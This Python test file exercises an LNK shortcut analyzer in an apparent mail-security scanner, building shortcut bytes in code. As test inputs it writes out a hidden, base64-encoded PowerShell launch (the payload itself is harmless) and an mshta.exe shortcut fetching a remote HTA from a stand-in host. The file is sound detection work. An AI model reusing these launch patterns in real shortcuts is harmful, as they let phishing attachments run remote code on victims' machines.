from __future__ import annotations

import struct

from sekimori.mail.context import ScanContext
from sekimori.mail.lnk import analyze_lnk, parse_lnk
from tests.conftest import shared_path

HEADER = bytes.fromhex("4c0000000114020000000000c000000000000046")


def build_lnk(target: str, arguments: str) -> bytes:
    flags = 0x02 | 0x20 | 0x80  # LinkInfo, arguments, unicode
    header = HEADER + struct.pack("<I", flags) + b"\0" * (0x4C - len(HEADER) - 4)
    base = target.encode("cp1252") + b"\0"
    info = struct.pack("<IIIIIII", 28 + len(base), 28, 1, 0, 28, 0, 0) + base
    args = struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le")
    return header + info + args


def test_parse_fixture_shortcut() -> None:
    data = shared_path("office", "strelka-fixtures", "test.lnk").read_bytes()
    shortcut = parse_lnk(data)
    assert shortcut.target.lower().endswith("calc.exe")
    assert shortcut.strings["arguments"] == "-testCommands"


def test_powershell_shortcut_is_flagged_and_decoded() -> None:
    data = build_lnk(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "-w hidden -ec "
        "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGQAZQB0AGUAYwB0AG8AcgAtAHQAZQBzAHQAJwA=",
    )
    result = analyze_lnk(data, "Form.lnk", ScanContext())
    assert {h.id for h in result.hits} >= {
        "lnk.shortcut",
        "lnk.command",
        "decode.powershell_encoded",
    }
    assert result.facts["target"].endswith("powershell.exe")


def test_truncated_shortcut_still_reported() -> None:
    data = build_lnk(r"C:\Windows\System32\mshta.exe", "http://a.example.invalid/x.hta")[:-10]
    result = analyze_lnk(data, "x.lnk", ScanContext())
    assert {"lnk.shortcut", "scan.parser_error"} <= {h.id for h in result.hits}
